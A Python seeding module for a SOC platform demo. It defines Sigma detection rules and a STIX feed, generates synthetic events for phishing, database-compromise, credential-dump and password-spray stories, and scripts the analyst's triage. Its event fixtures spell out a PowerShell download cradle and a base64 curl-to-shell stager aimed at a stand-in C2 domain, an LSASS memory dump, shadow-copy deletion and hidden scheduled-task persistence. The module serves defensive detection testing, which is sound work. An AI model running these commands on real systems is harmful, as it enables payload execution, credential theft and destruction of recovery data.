"""The SOC's demo, through the real services: Meridian's SOC writes a dozen Sigma rules, imports a small STIX
feed, takes a few hundred security events from the demo estate's machines through intake with in-process
detection, then its analyst triages the alerts and works four security cases, one handed off to Apex.

The events are generated (deterministic random) around four stories told on real CMDB assets, so alerts
enrich from the CMDB: a phishing document on a laptop that runs encoded PowerShell to a known C2 address; the
Oracle listener on the crime records database spawning shells (Apex's asset, so its case goes to Apex); a
credential dump and shadow-copy deletion on another laptop; a password spray against admin accounts. Benign
noise surrounds them. Nothing here reads /work/shared/data: the rules and the feed are written below.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from django.db import transaction
from django.utils import timezone

from towers.cmdb.models import ConfigurationItem
from towers.core.actor import Actor, Channel
from towers.organisations.models import Organisation, Person
from towers.organisations.selectors import actor_for
from towers.soc.intake.event import Event
from towers.soc.models import Alert, CaseStatus, DetectionRule, SecurityCase
from towers.soc.services.alerts import alerts_acknowledge, alerts_close, alerts_suppress
from towers.soc.services.cases import (
    case_add_note,
    case_add_observable,
    case_add_task,
    case_from_alerts,
    case_hand_off,
    case_transition,
)
from towers.soc.services.detection import Detection
from towers.soc.services.intake import (
    detector_attach,
    events_accept,
    stream_settings,
)
from towers.soc.services.intel import INTEL_RULE_ID, indicators_import
from towers.soc.services.rules import rule_custom_create
from towers.soc.services.ruleset import LiveRules

SOC, ANALYST = "meridian", "soc.analyst"
EVENTS = {"small": 300, "large": 1200}  # benign noise around the stories
BATCH = 100
C2_IP, C2_DOMAIN, SPRAY_IP = "203.0.113.66", "cdn-telemetry.example.org", "10.20.30.40"
SYSMON, SECURITY, POWERSHELL = (
    "Microsoft-Windows-Sysmon/Operational",
    "Security",
    "Microsoft-Windows-PowerShell/Operational",
)


RULE_ID = "7d3a9c1e-5b2f-4e8a-9c0d-{:012d}"
# Meridian's own rules, one Sigma document each; ids share a prefix so the triage below can name them by number.
RULES_YAML = r"""
title: Office application starts a shell
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000001
tags: [attack.initial_access, attack.t1566.001, attack.execution]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    ParentImage|endswith: ['\WINWORD.EXE', '\EXCEL.EXE', '\OUTLOOK.EXE']
    Image|endswith: ['\cmd.exe', '\powershell.exe', '\wscript.exe']
  condition: selection
level: high
---
title: Encoded PowerShell command line
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000002
tags: [attack.execution, attack.t1059.001, attack.defense_evasion, attack.t1027]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\powershell.exe'
    CommandLine|contains: [' -enc ', ' -EncodedCommand ']
  condition: selection
level: high
---
title: PowerShell download cradle in a script block
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000003
tags: [attack.execution, attack.t1059.001, attack.command_and_control, attack.t1105]
logsource: {product: windows, category: ps_script}
detection:
  selection:
    ScriptBlockText|contains|all: [Net.WebClient, DownloadString]
  condition: selection
level: high
---
title: PowerShell connects outside the force network
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000004
tags: [attack.command_and_control, attack.t1071.001]
logsource: {product: windows, category: network_connection}
detection:
  selection:
    Image|endswith: '\powershell.exe'
    Initiated: 'true'
  internal:
    DestinationIp|cidr: [10.0.0.0/8, 192.168.0.0/16]
  condition: selection and not internal
level: medium
---
title: Scheduled task created from the command line
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000005
tags: [attack.persistence, attack.execution, attack.t1053.005]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\schtasks.exe'
    CommandLine|contains: /create
  condition: selection
level: medium
---
title: LSASS memory dumped with comsvcs
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000006
tags: [attack.credential_access, attack.t1003.001]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\rundll32.exe'
    CommandLine|contains|all: [comsvcs, MiniDump]
  condition: selection
level: critical
---
title: Volume shadow copies deleted
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000007
tags: [attack.impact, attack.t1490]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\vssadmin.exe'
    CommandLine|contains|all: [delete, shadows]
  condition: selection
level: critical
---
title: Failed network logon to an admin account
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000008
tags: [attack.credential_access, attack.t1110.003]
logsource: {product: windows, service: security}
detection:
  selection:
    EventID: 4625
    LogonType: 3
    TargetUserName|startswith: adm.
  condition: selection
level: medium
---
title: Account and group discovery
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000009
tags: [attack.discovery, attack.t1087.002, attack.t1069.002]
logsource: {product: windows, category: process_creation}
detection:
  whoami:
    Image|endswith: '\whoami.exe'
    CommandLine|contains: /all
  groups:
    Image|endswith: '\net.exe'
    CommandLine|contains: domain admins
  condition: whoami or groups
level: low
---
title: Oracle listener spawns a shell
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000010
tags: [attack.initial_access, attack.t1190, attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    ParentImage|endswith: [/tnslsnr, /oracle]
    Image|endswith: [/sh, /bash]
  condition: selection
level: high
---
title: Base64 payload piped to a shell
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000011
tags: [attack.defense_evasion, attack.t1140, attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains|all: [base64 -d, '| sh']
  condition: selection
level: high
---
title: Security event log cleared
id: 7d3a9c1e-5b2f-4e8a-9c0d-000000000012
tags: [attack.defense_evasion, attack.t1070.001]
logsource: {product: windows, service: security}
detection:
  selection:
    EventID: 1102
  condition: selection
level: high
"""
RULES = [f"status: experimental\nauthor: Meridian SOC\n{text.strip()}\n" for text in RULES_YAML.split("\n---\n")]


def _indicator(n: int, name: str, pattern: str, kinds: list[str], **extra: Any) -> dict[str, Any]:
    return {
        "type": "indicator",
        "spec_version": "2.1",
        "id": f"indicator--5e1b7c9a-2d4f-4a6b-8c3e-{n:012d}",
        "created": "2026-01-10T09:00:00Z",
        "modified": "2026-01-10T09:00:00Z",
        "name": name,
        "pattern": pattern,
        "pattern_type": "stix",
        "valid_from": "2026-01-10T09:00:00Z",
        "indicator_types": kinds,
        "confidence": 80,
        "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "command-and-control"}],
    } | extra


FEED = {
    "type": "bundle",
    "id": "bundle--5e1b7c9a-2d4f-4a6b-8c3e-000000000000",
    "objects": [
        {
            "type": "identity",
            "spec_version": "2.1",
            "id": "identity--5e1b7c9a-2d4f-4a6b-8c3e-0000000000a1",
            "name": "Regional cyber crime unit",
            "identity_class": "organization",
        },
        _indicator(1, "FIN-style loader C2 server", f"[ipv4-addr:value = '{C2_IP}']", ["malicious-activity"]),
        _indicator(2, "Loader C2 domain", f"[domain-name:value = '{C2_DOMAIN}']", ["malicious-activity"]),
        _indicator(3, "Loader stage two URL", f"[url:value = 'https://{C2_DOMAIN}/a.ps1']", ["malicious-activity"]),
        _indicator(
            4,
            "Phishing sender",
            "[email-addr:value = 'invoices@payments-portal.example.net']",
            ["phishing"],
            confidence=60,
        ),
        _indicator(
            5,
            "Loader dropper (SHA-256)",
            "[file:hashes.'SHA-256' = '9f2b6c1d8e7a5f4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b']",
            ["malicious-activity"],
        ),
        _indicator(
            6,
            "Retired scanner address",
            "[ipv4-addr:value = '198.51.100.23']",
            ["anomalous-activity"],
            valid_until="2026-02-01T00:00:00Z",
            confidence=30,
        ),
        _indicator(7, "Loader process name", "[process:name = 'updater.exe']", ["malicious-activity"]),
    ],
}


@dataclass(frozen=True)
class SocSeed:
    rules: int
    indicators: int
    events: int
    alerts: int
    cases: int
    incident: str


def seed_soc(size: str = "small", *, seed: int = 2026) -> SocSeed | None:
    """Seed Meridian's SOC once (skipped when its demo rules are there); None when nothing was made.

    Detection runs in this process, so a configured event stream (TOWERS_NATS_URL) is left alone: those events
    would be the stream workers' to detect, and the triage below would find no alerts.
    """
    organisation = Organisation.objects.get(code=SOC)
    if stream_settings() is not None or DetectionRule.objects.filter(
        organisation=organisation, rule_id=RULE_ID.format(1)
    ):
        return None
    analyst = actor_for(Person.objects.get(username=ANALYST), organisation=organisation, channel=Channel.WEB)
    with transaction.atomic():  # all or nothing, so that a failed seeding can simply be run again
        for text in RULES:
            rule_custom_create(actor=analyst, organisation=organisation, text=text)
        feed = indicators_import(actor=analyst, organisation=organisation, bundle=FEED, source="rccu-loader-feed.json")
        events = _events(random.Random(seed), timezone.now(), EVENTS.get(size, EVENTS["small"]))  # noqa: S311
        _detect(organisation, events)
        cases = _triage(analyst, organisation)
    return SocSeed(
        rules=len(RULES),
        indicators=feed.created,
        events=len(events),
        alerts=Alert.objects.filter(organisation=organisation).count(),
        cases=len(cases),
        incident=next((c.incident.reference for c in cases if c.incident), ""),
    )


def _detect(organisation: Organisation, events: list[dict[str, Any]]) -> None:
    """Accept the events through intake with the detection a worker runs (rules, then intel) attached."""
    # Built once: every demo rule is written before the first event arrives.
    detect = Detection(Actor.system("soc-detect"), live=LiveRules(refresh_seconds=3600), worker="demo")
    intake = Actor.system("soc-demo-intake", channel=Channel.IMPORT)
    detector_attach(detect)
    try:
        for start in range(0, len(events), BATCH):
            batch = [
                Event(fields, "http", timezone.now(), json.dumps(fields)) for fields in events[start : start + BATCH]
            ]
            events_accept(actor=intake, events=batch, quarantined=[], organisation=organisation)
    finally:
        detector_attach(None)


# ---- the events: four stories on real assets, in benign noise


def _laptops() -> list[str]:
    """The demo CMDB's station laptops (LT-0001…), by name: the large estate's bulk-loaded devices are not needed."""
    names = ConfigurationItem.objects.filter(ci_class="end_user_device", name__startswith="LT-").order_by("name")
    laptops = list(names.values_list("name", flat=True)[:12])
    if len(laptops) < 10:
        raise LookupError("the SOC demo needs the demo CMDB's laptops (seed the estate first)")
    return laptops


def _events(rng: random.Random, now: datetime, noise: int) -> list[dict[str, Any]]:
    laptops = _laptops()
    ConfigurationItem.objects.get(name="CRIMEDB")  # the database whose case goes to Apex: fail early if missing
    stories = [*_phishing(laptops[2], now), *_database("CRIMEDB", now), *_credentials(laptops[6], now)]
    stories += [*_spray(laptops, now), *_admin(laptops[9], now)]
    events = stories + [_noise(rng, laptops, now) for _ in range(noise)]
    rng.shuffle(events)
    return events


def _at(now: datetime, minutes: float) -> str:
    return (now - timedelta(minutes=minutes)).isoformat()


def _win(channel: str, event_id: int, host: str, at: str, **fields: Any) -> dict[str, Any]:
    return {"Channel": channel, "EventID": event_id, "Computer": f"{host}.force.local", "UtcTime": at} | fields


def _process(host: str, at: str, user: str, image: str, command: str, parent: str) -> dict[str, Any]:
    return _win(SYSMON, 1, host, at, User=user, Image=image, CommandLine=command, ParentImage=parent)


OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SYS32 = "C:\\Windows\\System32\\"


CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('https://{C2_DOMAIN}/a.ps1')"
BEACON = {"Image": PS, "Initiated": "true", "SourceIp": "10.44.3.21", "DestinationIp": C2_IP, "DestinationPort": 443}
STAGER = "echo Y3VybCAtcyBodHRwczovL2Nkbi10ZWxlbWV0cnkuZXhhbXBsZS5vcmcvbCB8IHNo | base64 -d | sh"
LISTENER = "/u01/app/oracle/product/19c/bin/tnslsnr"
CMD = SYS32 + "cmd.exe"


def _linux(host: str, at: str, image: str, parent: str, command: str, **fields: Any) -> dict[str, Any]:
    return {"host": host, "user": "oracle", "@timestamp": at, "Image": image, "ParentImage": parent} | {
        "CommandLine": command,
        **fields,
    }


def _phishing(host: str, now: datetime) -> Iterator[dict[str, Any]]:
    user = "FORCE\\k.wright"
    yield _process(host, _at(now, 95), user, PS, f"{PS} -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", OFFICE)
    yield _win(POWERSHELL, 4104, host, _at(now, 94), User=user, ScriptBlockText=CRADLE)
    yield _win(SYSMON, 22, host, _at(now, 94), User=user, Image=PS, QueryName=C2_DOMAIN, QueryResults=C2_IP)
    for minutes in (93, 63, 33):  # the loader beacons every half hour
        yield _win(SYSMON, 3, host, _at(now, minutes), User=user, **BEACON)
    task = 'schtasks /create /sc onlogon /tn "OneDrive Updater" /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1"'
    yield _process(host, _at(now, 90), user, SYS32 + "schtasks.exe", task, PS)


def _database(host: str, now: datetime) -> Iterator[dict[str, Any]]:
    for minutes in (70, 52):
        yield _linux(host, _at(now, minutes), "/usr/bin/bash", LISTENER, "bash -c id;uname -a")
    yield _linux(host, _at(now, 50), "/usr/bin/sh", "/usr/bin/bash", STAGER)
    yield _linux(host, _at(now, 49), "/usr/bin/curl", "/usr/bin/sh", f"curl -s https://{C2_DOMAIN}/l", dst_ip=C2_IP)


def _credentials(host: str, now: datetime) -> Iterator[dict[str, Any]]:
    user, dump = (
        "FORCE\\svc.backup",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Temp\\l.dmp full",
    )
    yield _process(host, _at(now, 40), user, SYS32 + "rundll32.exe", dump, CMD)
    yield _process(host, _at(now, 25), user, SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD)
    yield _win(SECURITY, 1102, host, _at(now, 20), SubjectUserName="svc.backup")


def _spray(laptops: list[str], now: datetime) -> Iterator[dict[str, Any]]:
    failed = {"LogonType": 3, "IpAddress": SPRAY_IP, "Status": "0xc000006d", "WorkstationName": "KALI"}
    for n, account in enumerate(("adm.smith", "adm.jones", "adm.patel", "adm.osei") * 4):
        yield _win(SECURITY, 4625, laptops[n % 5], _at(now, 180 - n), TargetUserName=account, **failed)


def _admin(host: str, now: datetime) -> Iterator[dict[str, Any]]:
    user = "FORCE\\adm.jones"
    yield _process(host, _at(now, 15), user, SYS32 + "whoami.exe", "whoami /all", CMD)
    yield _process(host, _at(now, 14), user, SYS32 + "net.exe", 'net group "domain admins" /domain', CMD)
    # An engineer's own scheduled task: alerted, then closed as a false positive.
    reboot = 'schtasks /create /tn "Patch reboot" /sc once /st 02:00 /tr "shutdown /r"'
    yield _process(host, _at(now, 13), user, SYS32 + "schtasks.exe", reboot, CMD)


BENIGN = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer"),
    ("C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe --system-initiated"),
    (OFFICE, "WINWORD.EXE /n C:\\Users\\Public\\Documents\\duty-rota.docx"),
    (SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p"),
    (PS, "powershell.exe -File C:\\ProgramData\\Intune\\inventory.ps1"),
]


def _noise(rng: random.Random, laptops: list[str], now: datetime) -> dict[str, Any]:
    host, at = rng.choice(laptops), _at(now, rng.uniform(5, 24 * 60))
    user = f"FORCE\\officer{rng.randint(1000, 9999)}"
    kind = rng.random()
    if kind < 0.5:
        image, command = rng.choice(BENIGN)
        return _process(host, at, user, image, command, "C:\\Windows\\explorer.exe")
    if kind < 0.75:
        address = f"10.44.{rng.randint(0, 20)}.{rng.randint(2, 250)}"
        logon = {"TargetUserName": user.split("\\")[1], "LogonType": rng.choice((2, 3, 11)), "IpAddress": address}
        return _win(SECURITY, 4624, host, at, **logon)
    if kind < 0.9:
        query = rng.choice(("intranet.force.local", "login.microsoftonline.com", "www.gov.uk", "crime.force.local"))
        return _win(SYSMON, 22, host, at, User=user, Image="chrome.exe", QueryName=query)
    internal = {
        "Image": PS,
        "Initiated": "true",
        "DestinationIp": f"10.1.0.{rng.randint(2, 9)}",
        "DestinationPort": 443,
    }
    return _win(SYSMON, 3, host, at, User=user, **internal)


# ---- the analyst's triage


def _alerts(organisation: Organisation, rule: int | str, host: str) -> list[Alert]:
    """The alerts of a demo rule (by number) or of the intel rule about a host, not yet in a case."""
    rule_id = rule if isinstance(rule, str) else RULE_ID.format(rule)
    qs = Alert.objects.filter(organisation=organisation, rule__rule_id=rule_id, case__isnull=True)
    return list(qs.filter(host__istartswith=host.lower()).select_related("rule").order_by("first_seen", "id"))


Work = tuple[list[str], list[str], list[str]]  # notes, tasks, observables


def _open(actor: Actor, alerts: list[Alert], title: str, work: Work) -> SecurityCase:
    """A case from the alerts, with the analyst's notes, tasks and observables ("type value TLP PAP")."""
    case = case_from_alerts(actor=actor, alerts=alerts, title=title)
    notes, tasks, observables = work
    for body in notes:
        case_add_note(actor=actor, case=case, body=body)
    for task in tasks:
        case_add_task(actor=actor, case=case, title=task)
    for kind, value, tlp, pap in (o.split() for o in observables):
        case_add_observable(actor=actor, case=case, type=kind, value=value, tlp=tlp, pap=pap)
    return case


PHISHING_WORK: Work = (
    [
        "Duty rota lure from invoices@payments-portal.example.net; k.wright opened it at 07:10.",
        f"Beacon to {C2_IP} every 30 minutes; the RCCU feed names it as the loader's C2.",
    ],
    ["Isolate the laptop from the network", "Reset k.wright's password", "Search the mail gateway for the sender"],
    [f"domain {C2_DOMAIN} amber green", f"ip {C2_IP} amber green"],
)
DATABASE_WORK: Work = (
    ["The listener ran id and uname, then a base64 curl-to-shell from the loader's domain."],
    ["Apex: patch the listener and review the oracle account's crontab"],
    ["host CRIMEDB amber amber"],
)
CREDENTIALS_WORK: Work = (
    ["svc.backup should never run interactively: treat it as compromised."],
    ["Disable svc.backup", "Collect the memory image before reimaging"],
    ["user svc.backup red red"],
)
SPRAY_WORK: Work = (
    ["The source is the network team's audit scanner, run outside its change window."],
    [],
    [f"ip {SPRAY_IP} green green"],
)


def _triage(actor: Actor, organisation: Organisation) -> list[SecurityCase]:
    """What the analyst did with the night's alerts: each story a case, the rest acknowledged, suppressed or closed."""
    laptops = _laptops()

    def story(host: str, *rules: int | str) -> list[Alert]:
        return [alert for rule in rules for alert in _alerts(organisation, rule, host)]

    first = story(laptops[2], 1, 2)
    alerts_acknowledge(actor=actor, alerts=first)
    phishing_alerts = first + story(laptops[2], 3, 4, 5, INTEL_RULE_ID)
    phishing = _open(actor, phishing_alerts, f"Phishing document runs a loader on {laptops[2]}", PHISHING_WORK)
    case_transition(actor=actor, case=phishing, status=CaseStatus.IN_PROGRESS)
    title = "Oracle listener on CRIMEDB spawns shells and fetches a payload"
    database = _open(actor, story("crimedb", 10, 11, INTEL_RULE_ID), title, DATABASE_WORK)
    case_hand_off(actor=actor, case=database, note="Apex owns CRIMEDB: please contain and patch the listener.")
    title = f"LSASS dump and shadow copies deleted on {laptops[6]}"
    credentials = _open(actor, story(laptops[6], 6, 7, 12), title, CREDENTIALS_WORK)
    spray = story("", 8)
    alerts_acknowledge(actor=actor, alerts=spray)
    spraying = _open(actor, spray, f"Password spray against admin accounts from {SPRAY_IP}", SPRAY_WORK)
    case_transition(actor=actor, case=spraying, status=CaseStatus.RESOLVED)
    alerts_suppress(actor=actor, alerts=story(laptops[9], 9), until=timezone.now() + timedelta(days=1))
    alerts_close(actor=actor, alerts=story(laptops[9], 5))
    return [phishing, database, credentials, spraying]
